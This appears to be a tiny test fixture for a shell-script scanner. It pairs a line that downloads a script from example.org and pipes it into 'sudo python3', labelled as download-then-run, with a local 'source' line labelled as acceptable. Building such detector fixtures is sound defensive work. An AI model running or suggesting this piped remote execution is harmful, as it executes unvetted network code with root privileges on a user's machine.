#!/bin/bash
wget -qO- https://example.org/setup.py | sudo python3  # expect: code/download-then-run
source ./environment.sh  # ok: a file of our own
